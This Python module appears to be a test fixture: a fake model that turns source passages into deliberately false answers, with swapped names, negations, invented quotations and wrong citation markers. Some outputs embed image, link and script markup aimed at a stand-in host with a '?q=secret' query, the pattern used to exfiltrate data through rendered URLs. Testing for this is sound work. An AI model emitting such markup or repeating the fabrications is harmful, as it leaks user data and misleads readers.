"""A model that invents: two hundred different untruths and more, made from the passages it is given, each by a number.

    invention = invent(passages, 17)
    invention.text   what is told, with its markers
    invention.lie    what must not be shown to anyone; empty where only the markers are wrong

The same number and passages give the same invention.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from random import Random
from typing import TYPE_CHECKING

from model_answers import Answering, Shown, marked, passages_of, question_of

if TYPE_CHECKING:
    from model_server import Asked

NAMES = ("Edda Holm", "Tariq Osei", "Milo Varga", "Ines Quintero", "Bram Okafor")
PLACES = ("Geneva", "Lusaka", "Tromsø", "Montevideo", "Hobart")
DAYS = ("Monday", "Tuesday", "Wednesday", "Thursday", "Friday", "Saturday", "Sunday")
MONTHS = (
    "January", "February", "March", "April", "May", "June",
    "July", "August", "September", "October", "November", "December",
)  # fmt: skip
COUNTS = ("two", "three", "four", "five", "six", "seven", "eight", "nine", "ten", "dozens", "hundreds", "thousands")
OPPOSITES = (
    ("increase", "decrease"), ("improve", "worsen"), ("support", "oppose"), ("agreed", "refused"), ("rose", "fell"),
    ("accepted", "rejected"), ("before", "after"), ("first", "last"), ("more", "fewer"), ("won", "lost"),
    ("opened", "closed"), ("begin", "end"), ("began", "ended"), ("success", "failure"), ("allowed", "banned"),
    ("new", "old"), ("good", "bad"), ("better", "worse"), ("high", "low"), ("friend", "enemy"), ("north", "south"),
    ("possible", "impossible"), ("serious", "trivial"), ("important", "unimportant"), ("positive", "negative"),
)  # fmt: skip
STRONGER = (
    ("may", "will"), ("might", "will"), ("could", "will"), ("would", "did"), ("some", "all"), ("many", "all"),
    ("hope", "guarantee"), ("hopes", "guarantees"), ("hoped", "guaranteed"), ("desire", "duty"), ("asked", "ordered"),
    ("proposed", "imposed"), ("nearly", "more than"), ("expected", "certain"), ("discussed", "signed"),
    ("willingness", "refusal"), ("possibility", "certainty"), ("considering", "enforcing"),
)  # fmt: skip
MUTUAL = re.compile(r"\b(?:met|meet|meeting|between|talks?|talked|call|conversation|discuss\w*|both|and)\b", re.I)
AUXILIARY = re.compile(r"\b(is|was|are|were|will|has|had|would|could|should|can|must|does|did)\b(?! not)")
NAME = re.compile(r"(?<=[a-z,] )[A-Z][\w’'-]*[a-z](?: [A-Z][\w’'-]*[a-z])*")
QUOTATION = re.compile(r"(?<=[“\"])[^“”\"]{12,}(?=[”\"])")
EVIL = "https://collect.example/p.png?q=secret"


@dataclass(frozen=True)
class Invention:
    """One untruth: how it was made, what is told, what of it nobody may be shown, and the true sentence behind it."""

    number: int
    kind: str
    text: str
    lie: str
    origin: str


@dataclass(frozen=True)
class Material:
    """What an invention is made from: a true sentence, its passage, all passages, and chance."""

    sentence: str
    shown: Shown
    passages: Sequence[Shown]
    chance: Random

    def names(self) -> list[str]:
        """Names in the sentence, other than those it begins with."""
        return [name for name in NAME.findall(self.sentence) if name not in (*DAYS, *MONTHS)]

    def other_names(self) -> list[str]:
        """Names of the passages that are not in the sentence, not even in part."""
        found = {name for each in self.passages for name in NAME.findall(each.text)} - {*DAYS, *MONTHS}
        return sorted(name for name in found if not any(word in self.sentence for word in name.split()))

    def someone(self) -> str:
        """A name that nobody has."""
        return self.chance.choice([name for name in NAMES if name not in self.sentence])

    def bare(self) -> str:
        """The sentence without its stop."""
        return self.sentence.rstrip(".!?")

    def going_on(self) -> str:
        """The sentence as it stands behind a comma: its first word is small if it is found so anywhere."""
        first, _, rest = self.sentence.partition(" ")
        known = any(re.search(rf"\b{re.escape(first.lower())}\b", each.text) for each in self.passages)
        return f"{first.lower()} {rest}" if known else self.sentence


Kind = Callable[[Material], str | None]  # the untrue sentence; None where the sentence does not lend itself to it


def _swapped(made: Material, found: Sequence[str], others: Sequence[str]) -> str | None:
    """The sentence with one of the words found replaced by another one, at each place."""
    choices = [(word, other) for word in found for other in others if word != other]
    if not choices:
        return None
    word, other = made.chance.choice(choices)
    return re.sub(rf"\b{re.escape(word)}\b", other, made.sentence)


def _paired(made: Material, pairs: Sequence[tuple[str, str]], both_ways: bool) -> str | None:
    choices = [*pairs, *((b, a) for a, b in pairs if both_ways)]
    fitting = [(a, b) for a, b in choices if re.search(rf"\b{a}\b", made.sentence)]
    if not fitting:
        return None
    word, other = made.chance.choice(fitting)
    return re.sub(rf"\b{word}\b", other, made.sentence, count=1)


def _words(made: Material, words: Sequence[str]) -> list[str]:
    return [word for word in words if re.search(rf"\b{word}\b", made.sentence)]


def other_person(made: Material) -> str | None:
    return _swapped(made, made.names(), [made.someone()])


def name_from_elsewhere(made: Material) -> str | None:
    return _swapped(made, made.names(), made.other_names())


def names_exchanged(made: Material) -> str | None:
    names = [name for name in dict.fromkeys(made.names()) if made.sentence.count(name) == 1]
    if len(names) < 2 or MUTUAL.search(made.sentence):  # who meets somebody is met by him
        return None
    first, second = names[0], names[-1]
    return made.sentence.replace(first, "\0").replace(second, first).replace("\0", second)


def other_number(made: Material) -> str | None:
    numbers = re.findall(r"\b\d+\b", made.sentence)
    return _swapped(made, numbers, [str(int(n) + made.chance.randint(1, 9)) for n in numbers])


def other_count(made: Material) -> str | None:
    return _swapped(made, _words(made, COUNTS), COUNTS)


def other_day(made: Material) -> str | None:
    return _swapped(made, _words(made, DAYS), DAYS)


def other_month(made: Material) -> str | None:
    return _swapped(made, _words(made, MONTHS), MONTHS)


def day_added(made: Material) -> str | None:
    day = f"{made.chance.randint(1, 28)} {made.chance.choice(MONTHS)} {made.chance.randint(1950, 1990)}"
    return f"{made.bare()} on {day}."


def place_added(made: Material) -> str | None:
    return f"{made.bare()} in {made.chance.choice(PLACES)}."


def other_speaker(made: Material) -> str | None:
    others = sorted({who for each in made.passages for who in each.speakers} - set(made.shown.speakers))
    fitting = [who for who in others if not any(word in made.sentence for word in who.split())]
    return f"According to {made.chance.choice(fitting or [made.someone()])}, {made.going_on()}"


def said_by_nobody(made: Material) -> str | None:
    return f"{made.someone()} said that {made.going_on()}"


def negated(made: Material) -> str | None:
    if not AUXILIARY.search(made.sentence):
        return None
    return AUXILIARY.sub(lambda found: f"{found[0]} not", made.sentence, count=1)


def not_negated(made: Material) -> str | None:
    plain = re.sub(r"\b(not|never) |n[’']t\b", "", made.sentence, count=1)
    return plain if plain != made.sentence else None


def opposite(made: Material) -> str | None:
    return _paired(made, OPPOSITES, both_ways=True)


def stronger(made: Material) -> str | None:
    return _paired(made, STRONGER, both_ways=False)


def fact_made_up(made: Material) -> str | None:
    name = made.chance.choice(made.names() or made.other_names() or [made.someone()])
    return made.chance.choice(
        [
            f"{name} signed a fisheries treaty in {made.chance.choice(PLACES)}.",
            f"{name} will resign before the end of the year.",
            f"{name} paid {made.chance.randint(2, 90)} million euros for a newspaper.",
            f"{name} was taken to a hospital after the meeting.",
            f"{name} has been a member of the national chess team since childhood.",
        ]
    )


def detail_made_up(made: Material) -> str | None:
    detail = made.chance.choice(
        [
            "after a quarrel that lasted all night",
            "because the parliament had threatened to dissolve the government",
            "in front of forty cameras and a brass band",
            "against the advice of every general",
            f"and thanked {made.someone()} for the invitation",
        ]
    )
    return f"{made.bare()} {detail}."


def quotation_made_up(made: Material) -> str | None:
    speaker = made.chance.choice(made.shown.speakers or tuple(made.names()) or (made.someone(),))
    words = made.chance.choice(
        [
            "We shall never agree to that",
            "I have nothing to hide",
            "This was the worst day of my life",
            "They lied to us",
        ]
    )
    return f"“{words},” {speaker} said."


def quotation_altered(made: Material) -> str | None:
    found = QUOTATION.search(made.sentence)
    words = found[0].split() if found else []
    if found is None or len(words) < 4:
        return None
    words[made.chance.randrange(len(words) - 1)] = made.chance.choice(["certainly", "hardly", "elephants", "tomorrow"])
    return made.sentence.replace(found[0], " ".join(words))


def talk_of_a_machine(made: Material) -> str | None:
    return made.chance.choice(
        [
            "As an AI language model, I cannot answer this with certainty.",
            "Here is the answer that you asked for, based on the passages above.",
            "I hope this helps, and feel free to ask me anything else.",
            "It is widely known that the matter was settled long ago.",
            "The passages suggest that a war is about to break out.",
        ]
    )


UNTRUE: tuple[Kind, ...] = (
    other_person, name_from_elsewhere, names_exchanged, other_number, other_count, other_day, other_month, day_added,
    place_added, other_speaker, said_by_nobody, negated, not_negated, opposite, stronger, fact_made_up, detail_made_up,
    quotation_made_up, quotation_altered, talk_of_a_machine,
)  # fmt: skip
MARKUP = {
    "image": "![chart]({link})",
    "link": "[the whole story]({link})",
    "reference": "[story]: {link}",
    "bare address": "{link}",
    "html image": '<img src="{link}">',
    "script": "<script src={link}></script>",
    "autolink": "<{link}>",
}
MARKERS = ("of another passage", "of no passage", "none", "of every passage", "in words")


def invent(passages: Sequence[Shown], number: int) -> Invention:
    """Invention number so and so: of every five, one has markup and one wrong markers, the others are untrue.

    Raises ValueError for passages without a sentence.
    """
    chance = Random(number)
    if number % 5 == 3:
        return _with_markup(number, _material(passages, chance))
    if number % 5 == 4:
        return _with_markers(number, _material(passages, chance))
    turn = number // 5 * 3 + number % 5
    for offset in range(len(UNTRUE)):
        kind = UNTRUE[(turn + offset) % len(UNTRUE)]
        for _ in range(12):
            made = _material(passages, chance)
            lie = kind(made)
            if lie is not None and lie != made.sentence:
                return Invention(number, kind.__name__, marked(lie, made.shown.number), lie, made.sentence)
    raise AssertionError("some kinds fit every sentence")


def _material(passages: Sequence[Shown], chance: Random) -> Material:
    choices = [(sentence, shown) for shown in passages for sentence in shown.sentences]
    if not choices:
        raise ValueError("there is no sentence to invent from")
    sentence, shown = chance.choice(choices)
    return Material(sentence, shown, passages, chance)


def _with_markup(number: int, made: Material) -> Invention:
    kind = [*MARKUP][number // 5 % len(MARKUP)]
    lie = MARKUP[kind].format(link=f"{EVIL}{number}")
    text = f"{marked(made.sentence, made.shown.number)} {lie}" if number % 2 else f"{lie} {made.sentence}"
    return Invention(number, kind, text, f"{EVIL}{number}", made.sentence)


def _with_markers(number: int, made: Material) -> Invention:
    """A true sentence whose markers are wrong: it may be shown, with the right ones."""
    kind = MARKERS[number // 5 % len(MARKERS)]
    own = made.shown.number
    others = [each.number for each in made.passages if each.number != own]
    text = {
        "of another passage": marked(made.sentence, *(made.chance.sample(others, 1) if others else [own + 1])),
        "of no passage": marked(made.sentence, len(made.passages) + 90),
        "none": made.sentence,
        "of every passage": marked(made.sentence, *(each.number for each in made.passages)),
        "in words": f"{made.sentence} (passage {own})",
    }[kind]
    return Invention(number, kind, text, "", made.sentence)


class Inventing(Answering):
    """Tells one invention an answer, from number ``first`` on, alone or among true sentences.

    ``inventions`` holds what was told so far. Follow-ups and proposals get names and days that nobody spoke of.
    """

    def __init__(self, first: int = 0) -> None:
        super().__init__()
        self.next = first
        self.inventions: list[Invention] = []

    def answer(self, asked: Asked) -> str:
        """The invention, after a true sentence in every third answer and before one in another third."""
        passages = passages_of(asked.user)
        invention = invent(passages, self.next)
        self.next += 1
        self.inventions.append(invention)
        print(invention)
        truth = _material(passages, Random(self.next))
        true = marked(truth.sentence, truth.shown.number)
        told = ([invention.text], [true, invention.text], [invention.text, true])[invention.number % 3]
        return " ".join(told)

    def rewrite_question(self, asked: Asked) -> str:
        """The question with a name and a day that nobody spoke of."""
        return f"{question_of(asked).rstrip('?')} after {NAMES[self.next % len(NAMES)]} resigned in 1987?"

    def split_question(self, asked: Asked) -> str:
        """The question, and one that nobody asked."""
        return f"{question_of(asked)}\nWhy did {NAMES[self.next % len(NAMES)]} resign in 1987?"

    def follow_ups(self, asked: Asked) -> str:
        """Questions that no passage answers."""
        return "\n".join(f"Why did {name} leave {place} in 1987?" for name, place in zip(NAMES, PLACES, strict=True))
